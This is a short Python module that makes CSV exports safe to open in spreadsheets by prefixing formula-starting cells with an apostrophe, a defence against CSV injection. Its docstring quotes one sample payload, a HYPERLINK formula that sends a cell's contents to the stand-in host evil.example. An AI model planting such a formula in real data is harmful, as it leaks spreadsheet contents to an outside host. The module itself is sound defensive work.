"""CSV lines for the trail's exports, safe to open in a spreadsheet.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and
LibreOffice: a member name set to `=HYPERLINK("http://evil.example/?"&A1,"open")` ran as one in an
auditor's spreadsheet (a security test). Such a cell gets a leading `'`, which spreadsheets show as text
and which says to a reader of the file that the value was neutralised (OWASP's advice for CSV injection).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_line(values: Iterable[object]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(_inert(value) for value in values)
    return out.getvalue().encode()


def _inert(value: object) -> object:
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value
